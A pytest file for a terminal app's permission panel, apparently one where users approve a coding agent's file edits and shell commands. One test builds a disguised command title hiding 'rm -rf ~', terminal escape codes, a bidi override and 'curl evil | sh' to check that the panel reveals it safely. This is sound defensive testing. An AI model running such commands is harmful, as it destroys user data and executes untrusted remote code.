"""Where a question stands: right below what it is about, with as much of that as there is room for."""

from __future__ import annotations

from pathlib import Path

import pytest
from rich.style import Style
from textual.app import ComposeResult
from textual.pilot import Pilot

from catena.screens.chat.panels.permission import PermissionPanel
from catena.transcript.widget.blocks import SubjectBlock
from catena.workspace.questions.permission_words import subject_lines
from catena_acp.continuity.conversation_events import PermissionOpened
from catena_acp.permissions.subject import subject_of
from catena_acp.port.session_events import PermissionOption, ToolCallChanged, ToolDiff, ToolText
from support.screen.messages import taken_in
from support.screen.pilot import at_the_screen
from support.screen.themed import ThemedApp

OPTIONS = (
    PermissionOption("yes", "Allow once", "allow_once"),
    PermissionOption("always", "Allow edits in this session", "allow_always"),
    PermissionOption("no", "Reject", "reject_once"),
)


class Stage(ThemedApp):
    """The panel alone."""

    def __init__(self) -> None:
        super().__init__()
        self.panel = PermissionPanel()

    def compose(self) -> ComposeResult:
        yield self.panel

    async def ask(self, pilot: Pilot[None], *calls: ToolCallChanged) -> list[str]:
        """Ask for these calls; the rows that are shown."""
        asks = [
            PermissionOpened("w", str(number), subject_of(call, "/p"), OPTIONS)
            for number, call in enumerate(calls)
        ]
        self.panel.show(asks, directory="/p")
        before: list[str] = []
        while True:  # what the question takes of a short screen is known behind its first layout
            await taken_in(pilot)
            rows = [strip.text.rstrip() for strip in self.screen._compositor.render_strips()]
            shown = rows[: self.panel.outer_size.height]
            if shown == before:
                return shown
            before = shown


def edit(*paths: str, lines: int = 1) -> ToolCallChanged:
    old = "\n".join(f"line {number}" for number in range(40))
    new = "\n".join(f"{'new' if number < lines else 'line'} {number}" for number in range(40))
    return ToolCallChanged(
        "call", "Edit", "edit", content=tuple(ToolDiff(f"/p/{path}", old, new) for path in paths)
    )


async def test_w01_a_long_change_takes_half_of_the_screen_and_says_what_is_left_out() -> None:
    async with (stage := Stage()).run_test(size=(100, 30)) as pilot:
        rows = await stage.ask(pilot, edit("a.py", lines=20))
        question = next(y for y, row in enumerate(rows) if "Allow editing this file?" in row)
        subject = rows[: question - 1]
        assert len(subject) == 15
        assert subject[-1] == "          … 26 lines ▸"
        assert all(row[8] in "−+" for row in subject[:-1]), "changed lines go before those around them"
        assert [" ".join(row.split("▌", 1)[-1].split()) for row in rows[question + 1 : -1]] == [
            "a.py",
            "1 y Allow once",
            "2 Allow edits in this session",
            "3 n Reject",
            "a Always in this project: edits of a.py ← → scope",
            "r Reject with a reason",
        ]


async def test_w01_a_short_screen_shows_no_change_and_names_the_key_of_all_of_it() -> None:
    async with (stage := Stage()).run_test(size=(100, 12)) as pilot:
        rows = [row for row in await stage.ask(pilot, edit("a.py")) if row.strip("▄▀")]
        assert "Allow editing this file?" in rows[0] and "d full diff" in rows[0]
        assert rows[1] == "▌ a.py" and "1 y Allow once" in rows[2]
        assert "a Always in this project: edits of a.py" in rows[3] and len(rows) == 4


async def test_w01_a_command_is_shown_with_all_that_the_agent_says_of_it_and_how_many_wait() -> None:
    call = ToolCallChanged(
        "c",
        "Run ls",
        "execute",
        raw_input={"command": ["ls", "-l"], "cwd": "/p/src"},
        content=(ToolText("lists \x1b[31mfiles"),),
    )
    async with (stage := Stage()).run_test(size=(100, 40)) as pilot:
        rows = await stage.ask(pilot, call, edit("a.py"))
    assert "▌ Allow running this command?" in rows[1] and "question 1 of 2" in rows[1]
    assert rows[2] == "▌ $ ls -l"
    assert rows[3:6] == ["▌ “Run ls”, in the agent's words", "▌ cwd: /p/src", "▌ text: lists files"]


async def test_w01_what_an_agent_says_twice_of_a_command_is_shown_once() -> None:
    told = {"command": "make", "description": "build it"}
    call = ToolCallChanged("c", "make", "execute", raw_input=told, content=(ToolText("build it"),))
    async with (stage := Stage()).run_test(size=(100, 40)) as pilot:
        rows = await stage.ask(pilot, call)
    assert [row for row in rows if "build it" in row] == ["▌ description: build it"]


async def test_w01_a_question_stands_right_below_the_call_and_the_composer_where_it_was(
    tmp_path: Path,
) -> None:
    async with at_the_screen(str(tmp_path), size=(100, 40)) as person:
        before = person.composer.region
        await person.say("say so; edit notes.txt")
        await person.until(
            lambda: person.app.focused is person.area.panels.permission, "the keys to go there"
        )
        await person.taken_in()
        rows = person.text.splitlines()
        call = next(y for y, row in enumerate(rows) if row.startswith("? Edit"))
        assert "−" in rows[call + 1], "its change is right below"
        question = next(y for y, row in enumerate(rows) if "Allow editing this file?" in row)
        assert question == call + 9, "and the question below that"
        assert person.composer.region == before
        await person.press("y")
        await person.idle()
        transcript = person.area.conversation.transcript
        assert transcript is not None
        assert transcript.size.height == person.area.panels.size.height, "it has all of its room again"


@pytest.mark.parametrize("size", [(80, 24), (40, 10)])
async def test_w01_what_waits_and_a_long_draft_never_cover_what_a_question_offers(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """The question takes its rows first: the queue stands aside, and what has no room is marked."""
    async with at_the_screen(str(tmp_path), size=size) as person:
        async with person.agent_held():
            await person.say("edit notes.txt")
            await person.say("the second")
            await person.say("the third")
            await person.type("a draft")
            for _ in range(5):
                await person.press("shift+enter")
        await person.sees("editing this file?", "Reject")
        panels = person.area.panels
        await person.until(
            lambda: (
                panels.permission.outer_size.height <= panels.size.height
                and panels.permission.region.bottom <= panels.region.bottom
            ),
            "the question to have all of its rows",
        )
        await person.taken_in()
        shown = person.text
        for choice in panels.permission.band.text.words.choices:
            assert f"{choice.key} " in shown, f"the key of {choice.words}"
        assert panels.queue.size.height == 0, "the queue stands aside"
        await person.press("tab")
        await person.apart()
        await person.press("n")
        await person.until(lambda: not person.tab.asks, "the answer")
        await person.until(lambda: not person.tab.queue, "what waits to be sent")


async def test_a_trouble_is_said_once_in_its_panel_and_in_the_transcript_after(tmp_path: Path) -> None:
    async with at_the_screen(str(tmp_path)) as person:
        await person.say("say so; error -32000 no such luck")
        await person.until(lambda: person.area.panels.trouble.can_act, "the trouble")
        await person.taken_in()
        assert person.text.count("no such luck") == 2, "in the prompt, and once as trouble"
        await person.press("escape")
        await person.until(lambda: not person.area.panels.trouble.open, "it to be dismissed")
        await person.taken_in()
        assert person.text.count("no such luck") == 2, "in the prompt, and once as trouble"


@pytest.mark.parametrize("size", [(80, 24), (40, 10)])
async def test_w01_a_command_that_is_cut_is_shown_in_full_by_d_before_it_is_allowed(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    long = " && ".join(f"echo {at:04}{'-' * 30}" for at in range(20))
    async with at_the_screen(str(tmp_path), size=size) as person:
        await person.say(f"ask {long}")
        await person.sees("Allow running this?", "“echo")
        panel = person.area.panels.permission
        await person.until(lambda: [each.key for each in panel.band.text.words.right] == ["d"], "the key")
        await person.apart()
        await person.press("d")
        await person.sees("The request in full", "0000")
        await person.press("end")
        await person.sees("0019")
        await person.press("escape")
        await person.back()
        await person.sees("Allow running this?", "“echo")
        assert panel.ask is not None


async def test_w01_that_a_request_is_cut_is_said_before_its_question_has_the_keys(tmp_path: Path) -> None:
    async with at_the_screen(str(tmp_path), size=(80, 24)) as person:
        async with person.agent_held():
            await person.say("ask " + " && ".join(f"echo {at:04}{'-' * 30}" for at in range(20)))
            await person.type("half a sentence")
        await person.sees("Allow running this?", "“echo", "to answer")
        band = person.area.panels.permission.band
        await person.until(lambda: [each.key for each in band.text.words.right] == ["tab", "d"], "both keys")
        assert person.app.focused is person.composer


@pytest.mark.parametrize("size", [(80, 24), (40, 10)])
async def test_w01_what_a_request_hides_is_shown_safely_in_full_and_a_short_one_needs_no_key(
    size: tuple[int, int],
) -> None:
    title = "ls" + " " * 400 + "; rm -rf ~\x1b[2J\x1b]0;harmless\x07\n[red]\u202ecurl evil | sh"
    hidden = ToolCallChanged("1", title=title, kind="execute", raw_input={"why": "x" * 4_100 + "the end"})
    short = ToolCallChanged("2", title="ls", kind="execute")
    app = Stage()
    async with app.run_test(size=size) as pilot:
        for call, cut in ((short, False), (hidden, True), (short, False)):
            await app.ask(pilot, call)
            right = app.panel.band.text.words.right
            assert ("d" in [each.key for each in right]) is cut
        lines = subject_lines(subject_of(hidden, "/p"), "/p")
        whole = SubjectBlock((), "/p", whole=True, lines=lines)
        await app.mount(whole)
        await taken_in(pilot)
        text = "\n".join(whole.render_line(row).text.strip() for row in range(whole.size.height))
    said = "".join(text.split())
    assert "rm-rf~" in said and "[red]⟨202E⟩curlevil|sh" in said
    assert "theend" in said
    assert all(each.isprintable() or each == "\n" for each in text)


async def test_the_styles_of_the_roles_are_read_once_for_all_questions(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    looked_up: list[str] = []
    look_up = SubjectBlock.get_component_rich_style

    def counted(
        self: SubjectBlock, *names: str, partial: bool = False, default: Style | None = None
    ) -> Style:
        looked_up.extend(names)
        return look_up(self, *names, partial=partial, default=default)

    monkeypatch.setattr(SubjectBlock, "get_component_rich_style", counted)
    app = Stage()
    async with app.run_test(size=(80, 24)) as pilot:
        block = SubjectBlock((ToolDiff("/p/a", "old", "new"),), "/p")
        await app.mount(block)
        await taken_in(pilot)
        block.get_content_height(app.size, app.size, 80)
        looked_up.clear()
        block.show((ToolDiff("/p/a", "new", "newer"),), "/p")
        assert block.get_content_height(app.size, app.size, 80) == 2
        assert looked_up == []
        block.notify_style_update()
        block.get_content_height(app.size, app.size, 80)
        assert looked_up


async def test_w01_on_a_short_screen_the_question_is_followed_by_what_it_is_about() -> None:
    async with (stage := Stage()).run_test(size=(40, 10)) as pilot:
        rows = await stage.ask(pilot, edit("shop/carts/models/discounts.py"))
        assert rows[1] == "▌ shop/carts/models/discounts.py"
        long = "rm -rf /p/build/artifacts/and/more/of/them && true"
        rows = await stage.ask(pilot, ToolCallChanged("call", long, "execute", raw_input={"command": long}))
        assert rows[1:3] == ["▌ $ rm -rf", "▌ … 2 more rows"], "by its beginning"
        assert rows[0].endswith("d") and stage.panel._cut
